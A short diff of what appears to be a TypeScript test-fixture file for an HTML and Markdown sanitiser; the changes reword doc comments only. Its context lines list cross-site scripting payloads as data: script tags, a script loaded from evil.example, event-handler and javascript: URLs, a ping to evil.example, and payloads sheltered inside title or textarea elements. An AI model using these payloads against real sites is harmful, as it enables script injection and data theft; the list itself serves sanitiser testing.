@@ -1,4 +1,4 @@
-/** HTML that runs code, or frames, sends or loads something, unless it is sanitised. */
+/** HTML that runs code, opens a frame, or sends or loads something, unless it is sanitised. */
 export const HTML: readonly string[] = [
   `<script>alert(1)</script>`,
   `<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`,
@@ -65,7 +65,7 @@ export const HTML: readonly string[] = [
   `<x-tag onclick="alert(1)" href="javascript:alert(1)">x</x-tag><a ping="https://evil.example/" href="javascript:1">x</a>`,
 ];
 
-/** HTML that is harmless as a browser parses it, and harmful if the surrounding element is removed. */
+/** HTML that browsers parse as harmless text, but that becomes harmful if the surrounding element is removed. */
 export const SHELTERED: readonly string[] = ["title", "xmp", "plaintext", "textarea", "noembed"].map(
   (name) => `<${name}><img src=x onerror=alert(1)></${name}>`,
 );
@@ -82,7 +82,7 @@ export const URLS: readonly string[] = [
   "filesystem:https://evil.example/x",
 ];
 
-/** Markdown around a payload, by the position of the payload. */
+/** Functions that put a payload into Markdown, by the position of the payload. */
 export const CONTEXTS: Record<string, (payload: string) => string> = {
   alone: (payload) => payload,
   "in a paragraph": (payload) => `글 ${payload} 글`,
